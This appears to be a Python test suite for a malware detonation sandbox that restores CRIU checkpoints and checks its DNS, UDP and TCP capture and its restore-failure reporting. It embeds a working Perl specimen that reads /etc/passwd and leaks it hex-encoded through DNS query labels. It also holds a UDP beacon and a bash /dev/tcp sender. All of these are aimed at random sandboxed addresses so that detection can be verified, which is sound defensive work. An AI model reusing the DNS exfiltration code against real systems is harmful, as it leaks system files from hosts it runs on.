"""kcsi detonate fidelity: DNS answered for every query type (UDP and TCP) and
seen in the pcap, DNS exfiltration found by zone, UDP contained, a checkpoint
with unsent TCP data restored by a second strategy, a failure named from
CRIU's own log with a report, every process's fate.

The scenes are made in the test (ckmake.checkpoint) with names, zones,
addresses and ports drawn at random, so nothing here knows a value in
advance.  Needs root, podman, runc and CRIU (lab/setup.sh)."""
import json
import os
import random
import socket
import subprocess
import threading
import uuid

import ckmake
import kt
from kt import eq, run
from test_detonate import _clean_host, _need_sandbox

# A DNS client in Perl (the lab image has perl-base): every query type over
# UDP, one over TCP, a normal lookup, and hex-encoded file chunks as labels of
# one zone; answers (or their absence) are appended to /tmp/answers.
DNS_SPECIMEN = r'''
use strict; use IO::Socket::INET; use Socket;
my ($server, $zone, $plain) = @ARGV;
sub q_ { my ($name, $type, $id) = @_; my $m = pack('nnnnnn', $id, 0x0100, 1, 0, 0, 0);
  $m .= join('', map { chr(length $_) . $_ } split /\./, $name) . "\0" . pack('nn', $type, 1); $m }
sub ask_udp { my ($name, $type) = @_; my $s = IO::Socket::INET->new(Proto => 'udp', PeerAddr => $server,
  PeerPort => 53) or return 'nosock'; $s->send(q_($name, $type, int(rand(65535))));
  my $r = ''; my $rin = ''; vec($rin, fileno($s), 1) = 1;
  return 'timeout' unless select(my $rout = $rin, undef, undef, 0.5); $s->recv($r, 4096);
  my ($an) = unpack('x6n', $r); return "answers=$an" }
sub ask_tcp { my ($name, $type) = @_; my $s = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 53,
  Proto => 'tcp', Timeout => 1) or return 'noconn'; my $m = q_($name, $type, 7); print $s pack('n', length $m) . $m;
  my $len; return 'short' unless read($s, $len, 2) == 2; my $r; read($s, $r, unpack('n', $len));
  my ($an) = unpack('x6n', $r); return "answers=$an" }
open(my $pw, '<', '/etc/passwd'); my $data = do { local $/; <$pw> }; my $hex = unpack('H*', $data);
my @chunks = ($hex =~ /(.{1,48})/g);
while (1) {
  open(my $out, '>>', '/tmp/answers');
  for my $t (1, 28, 16, 15, 5, 255, 33, 99) { print $out "udp $t ", ask_udp("www.$plain", $t), "\n" }
  print $out "tcp 1 ", ask_tcp("api.$plain", 1), "\n";
  my $i = 0; for my $c (@chunks) { ask_udp(sprintf('%s.%d.%s', $c, $i++, $zone), 1) }
  close $out; sleep 1;
}
'''

UDP_SPECIMEN = r'''
use strict; use IO::Socket::INET;
my ($addr, $port) = @ARGV; my $n = 0;
my $s = IO::Socket::INET->new(Proto => 'udp', PeerAddr => $addr, PeerPort => $port) or die;
while (1) { $s->send("BEACON " . $n++ . " from $$"); select(undef, undef, undef, 0.3) }
'''


def _specimen(tag, code):
    d = os.path.join(kt.tmpdir(), 'spec-%s-%s' % (tag, uuid.uuid4().hex[:6]))
    os.makedirs(d)
    with open(os.path.join(d, 'run.pl'), 'w') as f:
        f.write(code)
    return d


def _detonate(arch, tag, expect=0, duration=6):
    out = os.path.join(kt.tmpdir(), 'fid-%s-%s' % (tag, uuid.uuid4().hex[:6]))
    code, so, se = run('detonate', arch, '--out', out, '--duration', str(duration), '--json', check=False,
                       timeout=300)
    eq(code, expect, 'detonate %s exit (%s)' % (tag, se.strip()))
    with open(os.path.join(out, 'report.json')) as f:
        rep = json.load(f)
    return out, rep, se


def _rand_label(n=6):
    return ''.join(random.choice('abcdefghijklmnopqrstuvwxyz') for _ in range(n))


_dns = {}


def _dns_scene():
    if 'scene' in _dns:
        return _dns['scene']
    _need_sandbox()
    zone = '%s.%s' % (_rand_label(8), random.choice(['net', 'com', 'io', 'org']))
    plain = '%s.%s' % (_rand_label(7), random.choice(['com', 'net', 'de']))
    server = '10.%d.%d.%d' % (random.randint(1, 254), random.randint(1, 254), random.randint(1, 254))
    d = _specimen('dns', DNS_SPECIMEN)
    arch = ckmake.checkpoint('dns', 'perl /spec/run.pl %s %s %s' % (server, zone, plain),
                             volumes=['%s:/spec:ro' % d], wait=30)
    out, rep, _ = _detonate(arch, 'dns')
    _dns['scene'] = (arch, out, rep, zone, plain, server)
    return _dns['scene']


def test_dns_every_type_answered_and_in_the_pcap():
    arch, out, rep, zone, plain, server = _dns_scene()
    eq(rep['end_reason'], 'duration', 'end')
    dns = rep['network']['dns']
    types = {(q['type'], q['transport']) for q in dns if q['name'].endswith(plain)}
    for t in ('A', 'AAAA', 'TXT', 'MX', 'CNAME', 'ANY', 'SRV', 'other'):
        assert (t, 'udp') in types, (t, types)
    assert ('A', 'tcp') in types, types
    assert all(q['server'] == server for q in dns), {q['server'] for q in dns}
    # tshark decodes a response for every query id it saw
    p = subprocess.run(['tshark', '-r', os.path.join(out, 'traffic.pcap'), '-Y', 'dns', '-T', 'fields', '-e',
                        'dns.id', '-e', 'dns.flags.response', '-e', 'dns.qry.type', '-e', 'dns.count.answers',
                        '-e', 'frame.time_relative'],
                       stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, timeout=120)
    rows = [l.split('\t') for l in p.stdout.splitlines() if l.strip()]
    queries = {(r[0], r[2]) for r in rows if r[1] in ('0', 'False')}
    answers = {(r[0], r[2]) for r in rows if r[1] in ('1', 'True')}
    assert len(queries) > 20, rows[:10]
    # the specimen queries without pause: one sent as the run ends (the
    # container is killed) may have no answer yet; none before that may
    end = max(float(r[4]) for r in rows)
    early = {(r[0], r[2]) for r in rows if r[1] in ('0', 'False') and float(r[4]) < end - 1.0}
    eq(early - answers, set(), 'queries without a response in the pcap')
    # types with data carry an answer record; the unknown type is NODATA
    ans = {r[2]: r[3] for r in rows if r[1] in ('1', 'True')}
    for qtype in ('1', '28', '16', '15', '5', '33'):
        assert ans.get(qtype, '0') not in ('', '0'), (qtype, ans)
    eq(ans.get('99'), '0', 'unknown type answered NODATA')


def test_dns_exfiltration_found_by_zone():
    arch, out, rep, zone, plain, server = _dns_scene()
    zones = {z['zone']: z for z in rep['network']['dns_zones']}
    assert zones[zone]['tunnel'], zones[zone]
    assert not zones[plain]['tunnel'], zones[plain]
    tun = [f for f in rep['findings'] if f['id'] == 'KCSI-DYN-DNSTUN-001']
    eq(len(tun), 1, 'one tunnel finding')
    eq(tun[0]['severity'], 'critical', 'severity')
    assert zone in tun[0]['title'] and 'T1048.003' in tun[0]['mitre'], tun[0]
    doms = [i['value'] for i in rep['iocs'] if i['type'] == 'domain']
    assert zone in doms and 'www.' + plain in doms, doms
    assert not [d for d in doms if d.endswith('.' + zone)], 'tunnel payload names exported as indicators'
    # merged into the static analysis, the scene is malicious
    code, so, _ = run('analyze', '--format', 'json', '--detonation', out, arch)
    eq(json.loads(so)['verdict'], 'malicious', 'merged verdict')
    _clean_host('dns')


def test_udp_beacon_lands_in_the_sinkhole_never_on_the_host():
    _need_sandbox()
    addr = '127.%d.%d.%d' % (random.randint(1, 254), random.randint(1, 254), random.randint(2, 254))
    lst = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    lst.bind((addr, 0))
    port = lst.getsockname()[1]
    got = []
    stop = threading.Event()

    def listen():
        lst.settimeout(0.2)
        while not stop.is_set():
            try:
                got.append(lst.recv(2048))
            except socket.timeout:
                pass
    t = threading.Thread(target=listen)
    t.start()
    try:
        d = _specimen('udp', UDP_SPECIMEN)
        arch = ckmake.checkpoint('udp', 'perl /spec/run.pl %s %d' % (addr, port), volumes=['%s:/spec:ro' % d],
                                 ready=lambda: len(got) >= 3)
        before = len(got)
        out, rep, _ = _detonate(arch, 'udp', duration=4)
        after = len(got)
    finally:
        stop.set()
        t.join()
        lst.close()
    eq(after, before, 'datagrams reached the host listener during the detonation')
    udp = [u for u in rep['network']['udp'] if u['dst'] == addr and u['dport'] == port]
    assert len(udp) >= 5 and udp[0]['first_bytes'].startswith('BEACON'), rep['network']['udp'][:3]
    p = subprocess.run(['tshark', '-r', os.path.join(out, 'traffic.pcap'), '-Y',
                        'udp.dstport == %d && ip.dst == %s' % (port, addr)], stdout=subprocess.PIPE,
                       stderr=subprocess.DEVNULL, text=True, timeout=60)
    assert len(p.stdout.splitlines()) >= 5, p.stdout
    _clean_host('udp')


def test_unsent_send_queue_restored_by_closing_the_connection():
    """A process with megabytes waiting in a TCP send queue (the peer stopped
    reading): CRIU cannot put the unsent data back, kcsi restores with the
    connection closed; the program notices and reconnects into the sinkhole."""
    _need_sandbox()
    addr = '127.%d.%d.%d' % (random.randint(1, 254), random.randint(1, 254), random.randint(2, 254))
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    srv.bind((addr, 0))
    srv.listen(4)
    port = srv.getsockname()[1]
    conns = []
    t = threading.Thread(target=lambda: conns.append(srv.accept()))
    t.start()
    script = ('while :; do exec 3<>/dev/tcp/%s/%d || { sleep 0.5; continue; }; '
              'head -c 4000000 /dev/urandom >&3; exec 3>&-; sleep 0.5; done' % (addr, port))
    try:
        arch = ckmake.checkpoint('sendq', script, shell='bash', tcp=True, ready=lambda: bool(conns), wait=20)
    finally:
        t.join(5)
        for c, _ in conns:
            c.close()
        srv.close()
    socks = json.loads(run('net', '--json', arch)[1])['sockets']
    assert max(s.get('outq_len') or 0 for s in socks) > 100000, [(s['dst'], s.get('outq_len')) for s in socks]
    out, rep, _ = _detonate(arch, 'sendq')
    eq(rep['restore']['strategy'], 'tcp-close', 'strategy')
    first = rep['restore']['attempts'][0]
    eq(first['result'], 'failed', 'first attempt')
    assert 'send queue' in first['reason'], first
    assert rep['restore']['changes'], rep['restore']
    # the shell reconnected into the sinkhole, to the address it had
    sess = [s for s in rep['network']['sessions'] if s['dst'] == addr and s['dport'] == port]
    assert sess, rep['network']['sessions']
    fates = {p['pid']: p for p in rep['processes']['checkpointed']}
    assert all('fate' in p for p in fates.values()), fates
    assert any(p['fate'] == 'running at the end' for p in fates.values()), fates
    _clean_host('sendq')


def test_refusal_names_criu_reason_and_leaves_a_report():
    """A checkpoint CRIU cannot restore (its open file's image entry removed):
    one line naming CRIU's reason, and DIR holds report.json with the failure
    and a manifest."""
    _need_sandbox()
    import test_detonate_confinement as conf
    import pbedit

    def drop_reg_files(entries):
        # files.img: keep every entry but the regular files (field 2 is the type; REG = 1)
        entries[:] = [e for e in entries if pbedit.get(e, 2) != [1]]
    arch = conf._edit_image(kt.fixture('counter'), 'checkpoint/files.img', drop_reg_files, 'noreg')
    out = os.path.join(kt.tmpdir(), 'fid-refusal-%s' % uuid.uuid4().hex[:6])
    code, so, se = run('detonate', arch, '--out', out, '--duration', '3', check=False, timeout=300)
    assert code != 0, se
    lines = [l for l in se.splitlines() if l.strip()]
    eq(len(lines), 1, 'one line: %s' % se)
    assert 'CRIU could not restore' in se and 'criu/' in se and 'report.json' in se, se
    rep = json.load(open(os.path.join(out, 'report.json')))
    eq(rep['failure']['stage'], 'restore', 'stage')
    assert rep['failure']['reason'] and rep['restore']['attempts'], rep
    man = json.load(open(os.path.join(out, 'manifest.json')))
    assert any(f['path'] == 'report.json' for f in man['files']) or man, man
    assert os.path.exists(os.path.join(out, 'logs', 'criu-restore-as-checkpointed.log'))
    _clean_host('refusal')
